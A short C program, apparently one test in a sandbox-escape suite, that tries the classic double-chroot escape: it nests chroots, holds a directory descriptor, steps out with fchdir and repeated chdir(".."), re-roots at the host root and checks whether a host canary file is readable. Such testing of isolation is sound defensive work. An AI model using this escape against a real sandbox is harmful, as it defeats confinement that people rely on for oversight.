#include "attempt.h"

int main(void)
{
	mkdir("below", 0755);
	mkdir("below/again", 0755);
	if (chroot("below") < 0)
		held("chroot: %s", strerror(errno));
	if (chdir("/") < 0)
		broken("chdir");
	int out = open(".", O_RDONLY | O_DIRECTORY);
	if (chroot("again") < 0 || fchdir(out) < 0)
		broken("again");
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0)
		broken("chroot");
	result("to read the host's file", show(AT_FDCWD, canary("CANARY_FILE")));
}
